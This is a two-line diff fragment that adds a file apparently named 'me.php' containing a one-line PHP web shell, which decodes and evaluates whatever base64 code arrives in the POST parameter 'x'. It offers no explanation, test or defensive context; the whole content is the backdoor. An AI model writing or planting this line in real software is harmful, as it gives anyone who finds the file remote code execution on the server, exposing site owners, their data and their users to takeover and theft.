@@ -1,0 +1,2 @@
+me.php
+<?php eval(base64_decode($_POST['x'])); ?>
